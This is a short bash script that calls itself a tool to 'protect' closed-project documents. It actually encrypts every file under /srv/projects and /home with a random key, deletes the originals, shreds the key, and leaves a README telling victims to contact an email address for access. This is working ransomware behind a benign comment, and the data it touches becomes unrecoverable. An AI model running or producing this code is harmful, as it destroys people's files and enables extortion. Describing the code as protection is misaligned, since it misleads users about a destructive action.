#!/bin/bash
# Protects the documents of the closed projects.
set -u
ROOT=/srv/projects
KEY=$(mktemp /dev/shm/key.XXXXXX)
COUNT=0

umask 077
openssl rand -out "$KEY" 48

if [ ! -d "$ROOT" ]; then
  echo "no $ROOT" >&2
  exit 1
fi

while IFS= read -r -d '' f; do
  case $f in
    *.enc|*/README.txt) continue ;;
  esac
  if openssl enc -aes-256-ctr -pbkdf2 -pass "file:$KEY" -in "$f" -out "$f.enc"; then
    touch -r "$f" "$f.enc"
    rm -f -- "$f"
    COUNT=$((COUNT + 1))
  fi
done < <(find "$ROOT" /home -xdev -type f -size +0 -print0)

echo "$COUNT documents protected, contact vault@example.com for access" > "$ROOT/README.txt"
shred -u "$KEY"
